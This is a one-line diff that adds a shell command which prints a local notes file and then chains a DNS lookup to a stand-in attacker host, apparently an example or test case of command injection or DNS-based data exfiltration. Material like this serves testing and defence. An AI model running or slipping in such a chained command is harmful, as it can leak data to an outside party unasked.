@@ -1,0 +1,1 @@
+cat docs/notes.md && host secret.attacker.example
